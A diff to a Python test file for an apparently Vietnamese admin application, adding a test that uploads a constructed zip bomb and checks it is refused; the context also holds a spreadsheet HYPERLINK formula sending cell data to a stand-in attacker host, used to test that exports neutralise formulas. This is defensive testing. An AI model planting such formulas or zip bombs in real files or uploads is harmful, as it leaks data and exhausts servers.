@@ -5,13 +5,15 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
+from pathlib import Path
 
 import openpyxl
 from sqlalchemy import select
 
 from motcua.core.models import Service
 from tests.admin.day import DAY, build_day
-from tests.admin.pages import add_person
+from tests.admin.pages import add_person, csrf, sign_in_admin
 from tests.conftest import bearer, staff_token
 
 FORMULA = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
@@ -49,3 +51,26 @@ def test_exports_carry_no_live_formula(app, client, api_world, clock):
     ]
     assert "'" + FORMULA in cells
     assert not any(isinstance(v, str) and v.startswith("=") for v in cells)
+
+
+def test_a_zip_bomb_voice_pack_is_refused_before_unpacking(
+    app, client, api_world, clock
+):
+    sign_in_admin(app, clock, client)
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("index.json", "{}")
+        with archive.open("0.wav", "w", force_zip64=True) as member:
+            for _ in range(100):
+                member.write(bytes(1024 * 1024))  # 100 MB of silence, ~100 KB packed
+    assert len(packed.getvalue()) < 1024 * 1024
+    path = "/admin/o/demo/voice"
+    form = {
+        "csrf_token": csrf(client, path),
+        "file": (io.BytesIO(packed.getvalue()), "g.zip"),
+    }
+    page = client.post(path, data=form, content_type="multipart/form-data")
+    assert "giải nén quá lớn" in page.get_data(as_text=True)
+    voice = Path(app.instance_path) / "voice"
+    written = sum(p.stat().st_size for p in voice.rglob("*") if p.is_file())
+    assert written < 1024 * 1024
